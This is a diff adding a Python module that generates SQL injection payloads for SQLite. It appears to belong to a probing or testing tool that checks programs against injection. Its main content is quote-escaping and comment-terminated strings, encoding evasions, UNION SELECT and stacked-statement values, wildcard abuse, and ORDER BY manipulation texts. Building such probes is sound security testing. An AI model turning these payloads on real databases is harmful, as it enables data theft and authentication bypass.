@@ -1,0 +1,189 @@
+"""Values that leave their place in an SQL statement (SQLite's reading of it), and texts that steer an `ORDER BY`.
+
+A value of most payloads leaves quotes of every kind, one after the other, because what stands behind the first that
+works is a comment; alone, each stands further behind, for filters that refuse one sign. See the SQLite documentation,
+"SQL As Understood By SQLite: Literal Values, Comments, Keywords".
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator, Sequence
+
+from probes.grammars import evasions
+from probes.grammars.placeholders import fields
+from probes.grammars.ranked import in_turn, ranked
+
+_QUOTES = ("'", '"', "`", "]")
+#: What may stand before a quote, so that an escape of the quote escapes something else.
+_ESCAPES = (("", "\\"), ("''", '""', "\\\\", "'"), ("\\'", '"', "%", "\0"))
+#: Other spellings of a quote, which a later step reads as one.
+_SPELLED = (("'", '"'), ("\uff07", "\uff02", "%27", "%22"), ("&#39;", "&quot;", "\\u0027", "\\x27", "%2527"))
+_STARTS = (("x",), ("x\n", ""))
+_BRACKETS = (("",), (")", "))"))
+_BLANKS = ((" ",), ("/**/", "\n", "\t"), ("\f", "/* */ "))
+_COMMENTS = ((" --", "; --"), ("--", "/*", " -- -"), ("\0", "#", ";"))
+#: Without a comment: the value goes on so that the quote behind it finds its other half.
+_BALANCED = ((" OR Qz", "<>Q"), (" OR QzQ=Qz", "ORQ1"))
+
+
+def values(ordinary: str, rests: Sequence[str], columns: Sequence[str] = ()) -> Iterator[str]:
+    """Texts for the place of a compared value: no right program finds anything for one of them.
+
+    `rests` are what an attacker wants behind the value (`OR 1`, `UNION SELECT pin, pin FROM staff`), the most useful
+    first; `columns` the names of columns, which are values without any sign where names are taken for them; `ordinary`
+    is a value that exists.
+    """
+    core = list(_core(rests))
+    yield from in_turn(
+        iter(core),
+        (other for payload in (*core[:2], f"x' {rests[0]} --") for other in evasions.evading(payload)),
+        _without_comment(ordinary),
+        in_turn(columns, _wildcards(ordinary), (f"{column} " for column in columns[:2])),
+        _without_words(ordinary),
+        _spelled(rests),
+        _alone(ordinary, rests),
+        _cut(rests[0]),
+    )
+
+
+def _wildcards(ordinary: str) -> Iterator[str]:
+    """What `LIKE` and `GLOB` take for the ordinary value, and for every one."""
+    start, rest = ordinary[:1], ordinary[1:]
+    yield from (f"_{rest}", "%", f"?{rest}", "*", f"{start}%", f"[{start}]{rest}", "_%", f"{ordinary}%", "?*")
+
+
+def _core(rests: Sequence[str]) -> Iterator[str]:
+    """Every kind of quote in one payload: what is behind the one that works is a comment."""
+    for start, escape, bracket, rest, blank, comment in ranked(
+        _STARTS, _ESCAPES, _BRACKETS, [[rest] for rest in rests], _BLANKS, _COMMENTS
+    ):
+        end = f"{bracket}{blank}{rest.replace(' ', blank)}{comment}"
+        # A comment of this kind, or a line's end, would end before the quote that works.
+        quotes = "'" if comment == "/*" or blank == "\n" else _QUOTES
+        yield start + "".join(f"{escape}{quote}{end}" for quote in quotes)
+
+
+def _spelled(rests: Sequence[str]) -> Iterator[str]:
+    """Quotes that only a later step reads as such."""
+    for rest in rests:
+        yield "x" + "".join(f"{quote} {rest} --" for tier in _SPELLED[1:] for quote in tier)
+
+
+def _without_comment(ordinary: str) -> Iterator[str]:
+    for quote, value, escape in ranked([["'", '"'], ["`", "]"]], [["x"], [ordinary]], _ESCAPES[:2]):
+        for tier in _BALANCED:
+            for end in tier:
+                blank = "" if end.startswith(("<", "OR")) else " OR 1"
+                yield f"{value}{escape}{quote}{blank}{end.replace('Q', quote)}"
+
+
+def _without_words(ordinary: str) -> Iterator[str]:
+    """Comparisons of the comparison: no keyword, no blank, no comment."""
+    for quote in ("'", '"'):
+        for sign in ("<>", "<", "!=", " IS NOT ", "<=", "-1<", " IN(0)<>", " NOT LIKE ", " BETWEEN 0 AND "):
+            yield f"x{quote}{sign}{quote}"
+        yield f"x{quote}IN(0)--"
+        yield f"x{quote}||{quote}{quote}<>{quote}"
+
+
+def _alone(ordinary: str, rests: Sequence[str]) -> Iterator[str]:
+    """One spelling of one quote in each payload."""
+    for spelled, escape, rest, bracket, blank, comment in ranked(
+        _SPELLED, (("", "\\"), ("''", "'")), [[rest] for rest in rests], _BRACKETS, _BLANKS, _COMMENTS
+    ):
+        yield f"x{escape}{spelled}{bracket}{blank}{rest.replace(' ', blank)}{comment}"
+    for rest in rests:  # numbers and names stand in no quotes
+        yield from (f"0 {rest}", f"0){rest}--", f"(SELECT 1) {rest} --")
+
+
+def _cut(rest: str) -> Iterator[str]:
+    """Texts whose doubled quote is cut in two at a length that the source names."""
+    for length in evasions.lengths():
+        for quote in ("'", '"'):
+            yield f"{'x' * (length - 1)}{quote} {rest} --"
+            yield f"{quote * length} {rest} --"
+
+
+def pairs(names: Sequence[str], rest: str = "OR 1") -> Iterator[tuple[str, str]]:
+    """Two values of one statement, the first of which opens what the second steps out of.
+
+    `names` are those that the solution may have for the two, as they may stand in a template of its own.
+    """
+    second = f" {rest} --"
+    yield from [("x\\", second), ("x'", f"{second}'"), ('x"', f'{second}"'), ("x/*", f"*/' {rest} --")]
+    for field in fields(*names):
+        yield (f"x{field}", second)
+        yield (second, f"x{field}")
+    for length in evasions.lengths():
+        for quote in ("'", '"'):
+            yield ("x" * (length - 1) + quote, second)
+            yield (quote * length, second)
+            yield ("x" * length + quote, second)
+
+
+def statements(further: Sequence[str]) -> Iterator[str]:
+    """Values behind which another statement begins; it takes a program that runs several at once."""
+    for escape, statement in ranked(_ESCAPES, [[one] for one in further]):
+        yield "x" + "".join(f"{escape}{quote}; {statement}; --" for quote in _QUOTES[:2])
+
+
+#: A column at which sorting starts, and what may stand behind it where only a part of the text is looked at.
+_BEHIND_COLUMN = ((",", ", "), ("\n,", " COLLATE NOCASE,", " IS NULL,", " + 0,", "/**/,", '",', "`,", "],"))
+
+
+def orders(columns: Sequence[str], expressions: Sequence[str]) -> Iterator[str]:
+    """Texts for the place of a column in `ORDER BY`; `expressions` sort as no column does."""
+    yield from in_turn(
+        (around.format(one) for one in expressions for around in _AROUND_EXPRESSIONS),
+        _behind_columns(columns, expressions),
+        (form.format(column) for form in _LIMITS for column in columns),
+        (f"{one}{sign}{other}" for sign in ("*", "||", "-", "%", "<") for one in columns for other in columns),
+        (other for expression in expressions for other in evasions.evading(expression)),
+    )
+
+
+_AROUND_EXPRESSIONS = ("{}", " {}", "({})", "-{}", "{} --", "{}--", "{};", "{}/*", "+{}", "{}\0")
+_LIMITS = ("{} LIMIT 1 --", '{}" LIMIT 1 --', "-{}", "{}%2", "{} LIMIT 1/*", "{}\nLIMIT 1--", "{}>2", "NOT {}")
+
+
+def _behind_columns(columns: Sequence[str], expressions: Sequence[str]) -> Iterator[str]:
+    for column, behind, expression in ranked(
+        [[columns[0]], columns[1:]], _BEHIND_COLUMN, [[one] for one in expressions]
+    ):
+        opened = behind[-2] if behind.endswith(('",', "`,", "],")) else ""
+        start = {"]": "["}.get(opened, opened)
+        yield f"{expression}{behind}{column}" if not opened else f"x{opened},{expression},{start}{column}"
+        yield f"{column}{opened}*0,{expression}{f',{start}{column}' if start else ''}"
+
+
+def directions(expressions: Sequence[str], words: Sequence[str] = ("asc", "desc")) -> Iterator[str]:
+    """Texts for the place of a direction in `ORDER BY`."""
+    for expression in expressions:
+        for word in (*words, "ASC", ""):
+            for around in (
+                "{} LIMIT 1 --",
+                "*0,{}",
+                ",{}",
+                " , {}",
+                "{} NULLS LAST, {}",
+                "\n,{}",
+                "{}/**/,{}",
+                "{}\t,{}",
+                "{} LIMIT 1/*",
+                "{} LIMIT 1;",
+                "{} LIMIT 2 OFFSET 1 --",
+                "{}\nLIMIT 1--",
+                "{},{} --",
+                " {}, {}",
+            ):
+                yield _filled(around, word, expression)
+    for word in words:
+        yield from evasions.evading(f"{word} LIMIT 1 --")
+
+
+def _filled(around: str, word: str, expression: str) -> str:
+    if around.count("{}") == 2:
+        return around.format(word, expression)
+    if "LIMIT" in around:
+        return around.format(word)
+    return f"{word}{around.format(expression)}" if not around.startswith("*") else around.format(expression)
